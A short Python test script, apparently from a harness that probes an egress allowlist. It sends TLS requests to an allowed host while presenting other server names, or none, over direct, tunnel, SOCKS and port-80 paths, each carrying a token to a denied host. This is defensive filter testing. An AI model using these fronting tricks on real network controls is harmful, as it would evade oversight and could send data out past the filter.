"""TLS to an allowed name, under another one or none."""

from probe import *

NAMES = [
    "denied.test",
    TOKEN + ".denied.test",
    "www.allowed.test",
    None,
    "203.0.113.10",
    "allowed.test.denied.test",
    "localhost",
    "allowed.test.allowed.test",
]


def control():
    tls("allowed.test", 443, TOKEN + ".denied.test", request("denied.test", "/" + TOKEN))


def attack():
    get = request("denied.test", "/" + TOKEN)
    for name in NAMES:
        say("direct", tls("allowed.test", 443, name, get))
        say("tunnel", tls_tunnel("allowed.test:443", name, get))
        say("socks", tls_socks("allowed.test", 443, name, get))
        say("port 80", tls("allowed.test", 80, name, get))


start(attack, control)
